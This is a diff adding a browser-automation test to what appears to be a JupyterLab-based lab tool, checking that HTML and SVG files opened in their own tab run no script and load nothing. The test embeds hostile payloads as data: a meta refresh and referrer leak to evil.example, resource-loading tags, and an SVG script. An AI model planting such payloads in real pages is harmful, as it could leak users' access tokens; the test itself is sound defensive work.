@@ -321,6 +321,49 @@ def test_a_workspace_that_was_handed_in_is_a_text(lab, page):
     assert not (folder / "written.py").exists()
 
 
+LEAVING = (
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/left"><meta name="referrer" content="unsafe-url">'
+)
+LOADING = "".join(f"<{each}>" for each in (
+    'link rel="prefetch" href="https://evil.example/a"', 'link rel="stylesheet" href="https://evil.example/b"',
+    'iframe src="https://evil.example/c"></iframe', 'object data="https://evil.example/d"></object',
+    'video src="https://evil.example/e"></video', "style>body{background:url(https://evil.example/f)}</style",
+))  # fmt: skip
+DRAWING = (
+    f'<svg xmlns="http://www.w3.org/2000/svg"><text y="20">{END}</text><script>{RUN}</script>'
+    '<image href="https://evil.example/g"/></svg>'
+)
+
+
+def test_a_file_in_a_tab_of_its_own_runs_no_script_and_loads_nothing(lab, page):
+    """The tab's address has the token of whoever opened it.  In JupyterLab, a page that is trusted runs its scripts."""
+    address, token, folder = lab
+    written = {"page.html": f"<!DOCTYPE html>{LEAVING}<h1>{END}</h1>{LOADING}{EVIL}", "drawing.svg": DRAWING}
+    for name, text in written.items():
+        (folder / name).write_text(text)
+    (folder / "notes.txt").touch()
+    page.goto(f"{address}/lab/tree/notes.txt?token={token}&reset")
+    page.locator(".jp-FileEditor").wait_for()
+    reached: list[str] = []  # a request that the page's policy refuses is not sent
+    page.context.route("https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort()))
+    for name in written:
+        page.locator(".jp-DirListing-item").get_by_text(name, exact=True).click(button="right")
+        with page.context.expect_page() as opened:
+            page.get_by_role("menuitem", name="Open in New Browser Tab").click()
+        own = opened.value
+        own.wait_for_load_state()
+        expect(own.get_by_text(END)).to_be_attached()
+        assert f"/files/{name}?_xsrf=" in own.url
+        assert not any(frame.evaluate("() => window.owned") for frame in own.frames)
+        own.close()
+    page.context.unroute_all()
+    assert reached == []
+    (folder / "own.html").write_text(f"<!DOCTYPE html><script>document.write({END!r})</script>")
+    page.locator(".jp-DirListing-item").get_by_text("own.html", exact=True).dblclick()
+    page.get_by_role("button", name="Trust HTML").click()
+    expect(page.frame_locator(".jp-HTMLViewer iframe").get_by_text(END)).to_be_visible()
+
+
 def hostile_report(student: str) -> Report:
     """A report whose every text is hostile."""
     tests = [Result(EVIL, EVIL, outcome, 0, 4, EVIL * 3) for outcome in ("failed", "crashed", "passed")]
